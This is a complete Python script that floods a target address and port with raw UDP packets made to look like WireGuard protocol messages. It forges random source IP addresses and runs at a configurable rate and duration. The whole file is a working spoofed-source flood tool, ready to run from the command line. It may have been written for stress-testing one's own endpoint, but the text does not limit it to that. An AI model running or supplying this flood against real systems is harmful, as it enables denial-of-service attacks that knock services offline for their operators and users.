# SPDX-License-Identifier: MIT
"""Sends what has the form of WireGuard's messages, from forged addresses: phoneportflood.py ADDRESS PORT SECONDS RATE"""
import os
import random
import socket
import struct
import sys
import time


def packet(destination, port):
    kind = random.choice(((1, 148), (2, 92), (3, 64), (4, 32), (4, 1300)))
    body = bytes([kind[0], 0, 0, 0]) + os.urandom(kind[1] - 4)
    if random.random() < 0.2:
        body = os.urandom(kind[1])  # and what has not
    source = bytes([random.randrange(11, 100), *os.urandom(3)])
    udp = struct.pack(">HHHH", random.randrange(1024, 65536), port, 8 + len(body), 0) + body
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, destination) + udp


def main(address, port, seconds, rate):
    destination = socket.inet_aton(address)
    packets = [packet(destination, port) for _ in range(2000)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin, sent = time.monotonic(), 0
    while (now := time.monotonic() - begin) < seconds:
        while sent < now * rate:
            s.sendto(packets[sent % len(packets)], (address, 0))
            sent += 1
        time.sleep(0.002)
    print(f"sent={sent}", flush=True)


main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]))
